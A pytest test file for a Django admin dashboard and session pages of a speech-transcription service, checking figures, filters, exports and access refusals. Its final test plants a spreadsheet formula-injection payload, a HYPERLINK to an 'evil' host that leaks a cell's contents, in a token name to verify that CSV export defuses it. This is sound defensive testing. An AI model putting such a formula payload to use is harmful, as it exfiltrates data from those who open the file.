"""The sessions admin and the dashboard: pages, facts on them, actions, refusals."""

import json
import os
import re
from pathlib import Path

import pytest
from django.urls import reverse

from tests.transcription.sessions import record_session, record_voice_session
from transcription import server_process
from transcription.models import AudioSession

pytestmark = pytest.mark.django_db

INDEX = reverse("admin:index")
SESSIONS = reverse("admin:transcription_audiosession_changelist")


def session_url(session):
    return reverse("admin:transcription_audiosession_change", args=[session.pk])


def section(html: str, element_id: str) -> str:
    """The text of the element with that id (up to its closing tag), tags removed."""
    match = re.search(rf'id="{element_id}">(.*?)</(div|table)>', html, re.S)
    assert match, element_id
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", match[1]))


@pytest.fixture
def history(user, api_token, django_user_model):
    """A week of sessions: alice (token) and bob, completed, refused, failed, live."""
    token, _ = api_token
    bob = django_user_model.objects.create_user(username="bob")
    return {
        "today": record_session(
            user=user,
            token=token,
            finals=[("the weather is nice today", 0.3, 1.9), "turn on the lights"],
            audio_seconds=120,
        ),
        "live": record_session(
            user=user, token=token, finals=["still"], close_code=None, audio_seconds=30
        ),
        "refused": record_session(
            user=bob,
            close_code=1008,
            error=("parameters", "sampleRate must be ..."),
            refused=True,
        ),
        "failed": record_session(
            user=bob,
            finals=["half a sentence"],
            audio_seconds=60,
            close_code=1011,
            error=("engine", "decoder died"),
            days_ago=3,
        ),
        "old": record_session(user=bob, audio_seconds=600, days_ago=10),
    }


def test_dashboard_figures(admin_client, history):
    response = admin_client.get(INDEX)
    assert response.status_code == 200
    html = response.content.decode()
    assert section(html, "active-now").startswith(" 1 sessions active now")
    # today: today + live + refused; 2.5 audio minutes (120 s + 30 s)
    assert "3 sessions today, 2.5 audio minutes" in section(html, "today")
    # 7 days adds the failed one (3 days ago), not the one 10 days ago
    assert "4 sessions in 7 days, 3.5 audio minutes" in section(html, "last-7-days")
    # 1008 and 1011 of 4 sessions
    assert "50.0 % closed in error" in section(html, "error-rate")
    codes = section(html, "close-codes")
    assert "1000 normal 1 25.0 %" in codes
    assert "1008 policy (auth, parameters, quota) 1 25.0 %" in codes
    assert "1011 server or engine error 1 25.0 %" in codes
    assert re.search(r"alice 2 2\.5 bob 2 1\.0", section(html, "top-users"))
    errors = section(html, "latest-errors")
    assert errors.index("sampleRate must be") < errors.index("decoder died")
    assert f'href="{session_url(history["failed"])}"' in html
    assert f'href="{session_url(history["refused"])}"' in html


def test_dashboard_hidden_from_staff_without_session_access(client, django_user_model):
    staff = django_user_model.objects.create_user(username="ops", is_staff=True)
    client.force_login(staff)
    response = client.get(INDEX)
    assert response.status_code == 200
    assert 'id="ops-dashboard"' not in response.content.decode()


def test_session_list_columns(admin_client, history):
    response = admin_client.get(SESSIONS)
    assert response.status_code == 200
    html = response.content.decode()
    row = re.search(
        rf"<tr>(?:(?!</tr>).)*{history['today'].pk}(?:(?!</tr>).)*</tr>", html, re.S
    )[0]
    cell = {
        name: value
        for name, value in re.findall(r'class="field-(\w+)[^"]*">(.*?)</t[dh]>', row)
    }
    assert "alice" in cell["user"]
    assert cell["token_name"] == "tests"
    assert cell["engine"] == "echo"
    assert cell["language_shown"] == "en-US"
    assert cell["status"] == "completed"
    assert cell["close_code"] == "1000"
    assert cell["finals"] == "2"
    assert cell["errors"] == "0"
    assert cell["batches"] == "0"
    assert re.fullmatch(r"0:0\d", cell["duration"])


def test_an_identified_language_is_shown_beside_auto(admin_client, history):
    session = history["today"]
    AudioSession.objects.filter(pk=session.pk).update(
        language="auto", detected_language="sv-SE", language_probability=0.97
    )
    listed = admin_client.get(SESSIONS).content.decode()
    assert "auto → sv-SE" in listed
    page = admin_client.get(
        reverse("admin:transcription_audiosession_change", args=[session.pk])
    ).content.decode()
    assert "sv-SE" in page
    assert "0.97" in page


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"status__exact": "failed"}, {"failed"}),
        ({"status__exact": "active"}, {"live"}),
        ({"close_code": "1008"}, {"refused"}),
        ({"engine": "echo"}, {"today", "live", "refused", "failed", "old"}),
        ({"q": "lights"}, {"today"}),
        ({"q": "half a sentence"}, {"failed"}),
        ({"q": "decoder"}, {"failed"}),
        ({"q": "bob"}, {"refused", "failed", "old"}),
        (
            {"started_at__gte": "2000-01-01 00:00:00+00:00", "user__id__exact": "1"},
            set(),
        ),
    ],
)
def test_session_filters_and_search(admin_client, history, query, expected):
    response = admin_client.get(SESSIONS, query)
    assert response.status_code == 200
    html = response.content.decode()
    shown = {name for name, s in history.items() if session_url(s) in html}
    assert shown == expected


def test_session_filters_by_user_and_date(admin_client, history, user):
    html = admin_client.get(SESSIONS, {"user__id__exact": user.pk}).content.decode()
    assert {n for n, s in history.items() if session_url(s) in html} == {
        "today",
        "live",
    }
    html = admin_client.get(
        SESSIONS, {"started_at__year": history["old"].started_at.year}
    ).content.decode()
    assert session_url(history["old"]) in html


def test_search_by_session_id(admin_client, history):
    session = history["failed"]
    html = admin_client.get(SESSIONS, {"q": str(session.pk)}).content.decode()
    assert session_url(session) in html
    assert session_url(history["today"]) not in html


def test_session_detail_shows_the_conversation_read_only(admin_client, history):
    session = history["failed"]
    response = admin_client.get(session_url(session))
    assert response.status_code == 200
    html = response.content.decode()
    conversation = re.search(r'id="conversation".*?</ol>', html, re.S)[0]
    kinds = re.findall(r'class="entry-(\w+)"', conversation)
    assert kinds == ["start", "final", "error", "end"]
    assert "half a sentence" in conversation
    assert "decoder died" in conversation
    assert "close 1011 server or engine error" in conversation
    assert 'name="_save"' not in html
    assert "<textarea" not in html


def test_session_detail_links_its_token(admin_client, history, api_token):
    token, raw = api_token
    html = admin_client.get(session_url(history["today"])).content.decode()
    assert reverse("admin:accounts_apitoken_change", args=[token.pk]) in html
    assert "the weather is nice today" in html
    assert raw not in html


def test_sessions_cannot_be_added(admin_client):
    response = admin_client.get(reverse("admin:transcription_audiosession_add"))
    assert response.status_code == 403


@pytest.mark.parametrize(
    ("action", "content_type", "marker"),
    [
        ("export_txt", "text/plain", "turn on the lights\n"),
        ("export_json", "application/json", '"text": "turn on the lights"'),
        ("export_srt", "application/x-subrip", " --> "),
        ("export_csv", "text/csv", '"id","user","token_name"'),
    ],
)
def test_export_actions(admin_client, history, api_token, action, content_type, marker):
    chosen = [history["today"].pk, history["failed"].pk]
    response = admin_client.post(
        SESSIONS, {"action": action, "_selected_action": chosen}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith(content_type)
    assert response["Content-Disposition"].startswith('attachment; filename="sessions-')
    body = response.content.decode()
    assert marker in body
    assert api_token[1] not in body
    if action == "export_json":
        assert {d["id"] for d in json.loads(body)} == {str(pk) for pk in chosen}


def test_transcript_and_error_lists_link_to_sessions(admin_client, history):
    for name in ("transcript", "sessionerror"):
        response = admin_client.get(reverse(f"admin:transcription_{name}_changelist"))
        assert response.status_code == 200
        assert session_url(history["failed"]) in response.content.decode()


def test_non_staff_are_refused(client, user, history):
    client.force_login(user)
    for url in (
        INDEX,
        SESSIONS,
        session_url(history["today"]),
        reverse("admin:transcription_transcript_changelist"),
        reverse("admin:transcription_sessionerror_changelist"),
    ):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("admin:login"))
    response = client.post(
        SESSIONS, {"action": "export_txt", "_selected_action": [history["today"].pk]}
    )
    assert response.status_code == 302
    assert AudioSession.objects.count() == 5


@pytest.fixture
def voice_session(user, settings):
    settings.REPLY_AUDIO_STORE = True
    return record_voice_session(user=user)


def test_conversation_with_batches_and_replies(admin_client, voice_session):
    session, batch_pks = voice_session
    html = admin_client.get(session_url(session)).content.decode()
    conversation = re.search(r'id="conversation".*?</ol>', html, re.S)[0]
    kinds = re.findall(r'class="entry-(\w+)"', conversation)
    assert kinds.index("reply") > kinds.index("batch") > kinds.index("final")
    assert kinds.count("batch") == 2
    assert "It is sunny." in conversation
    assert "connection refused" in conversation
    audio_url = reverse(
        "admin:transcription_audiosession_reply_audio", args=[session.pk, batch_pks[0]]
    )
    assert f'src="{audio_url}"' in conversation
    assert conversation.count("<audio") == 1
    audio = admin_client.get(audio_url)
    assert audio.status_code == 200
    assert audio["Content-Type"] == "audio/mpeg"
    assert audio.content == b"ID3-fake-mp3"
    missing = reverse(
        "admin:transcription_audiosession_reply_audio", args=[session.pk, batch_pks[1]]
    )
    assert admin_client.get(missing).status_code == 404


def test_session_list_counts_batches(admin_client, voice_session):
    html = admin_client.get(SESSIONS).content.decode()
    assert '<td class="field-batches">2</td>' in html
    batches = admin_client.get(reverse("admin:transcription_receiverbatch_changelist"))
    assert batches.status_code == 200
    assert "It is sunny." in batches.content.decode()


def test_reply_audio_refused_for_non_staff(client, user, voice_session):
    session, batch_pks = voice_session
    client.force_login(user)
    url = reverse(
        "admin:transcription_audiosession_reply_audio", args=[session.pk, batch_pks[0]]
    )
    assert client.get(url).status_code == 302


def test_session_detail_shows_the_process_that_served_it(admin_client, history):
    session = history["today"]
    assert session.server_pid == os.getpid()
    html = admin_client.get(session_url(session)).content.decode()
    assert "Served by" in html
    assert server_process.HOST in html
    assert f">{os.getpid()}<" in html


def test_session_detail_shows_only_the_tables_with_rows(admin_client, history):
    html = admin_client.get(session_url(history["today"])).content.decode()
    assert 'id="transcripts-group"' in html
    assert 'id="errors-group"' not in html  # no errors: no table of headers alone
    assert 'id="batches-group"' not in html
    # The inlines' title rows (each record's str, cut short) are hidden.
    # (in static/css/admin-session.css: the CSP allows no inline style)
    assert "css/admin-session.css" in html
    from django.contrib.staticfiles import finders

    css = Path(finders.find("css/admin-session.css")).read_text()
    assert ".inline-group .tabular td.original p { display: none; }" in css
    failed = admin_client.get(session_url(history["failed"])).content.decode()
    assert 'id="errors-group"' in failed


def test_a_reply_is_whole_with_its_player_beside_it(admin_client, voice_session):
    session, _ = voice_session
    html = admin_client.get(session_url(session)).content.decode()
    reply = re.search(r'<li class="entry-reply">(.*?)</li>', html, re.S)[1]
    body = re.search(r'<span class="body">(.*?)</span>\s*<audio', reply, re.S)
    assert body, reply
    assert "It is sunny." in body[1]
    assert 'preload="metadata"' in reply


def test_session_and_its_batches_link_to_each_other(admin_client, voice_session):
    session, batch_pks = voice_session
    html = admin_client.get(session_url(session)).content.decode()
    for pk in batch_pks:
        batch_url = reverse("admin:transcription_receiverbatch_change", args=[pk])
        assert f'href="{batch_url}"' in html
        batch_page = admin_client.get(batch_url).content.decode()
        assert f'href="{session_url(session)}"' in batch_page


def test_csv_export_defuses_a_formula_after_a_locale_separator(admin_client, user):
    """Issue 20 item 7: `;` separates cells in many locales."""
    import csv
    import io

    from accounts.services import api_token_create

    token, _ = api_token_create(user=user, name='x;=HYPERLINK("http://evil/?"&A2,"x")')
    session = record_session(user=user, token=token, finals=["hi"])
    response = admin_client.post(
        SESSIONS, {"action": "export_csv", "_selected_action": [session.pk]}
    )
    body = response.content.decode()
    for row in csv.reader(io.StringIO(body), delimiter=";"):
        for cell in row:
            assert not cell.lstrip('"').startswith(("=", "+", "-", "@")), cell
    assert ";'=HYPERLINK(" in body
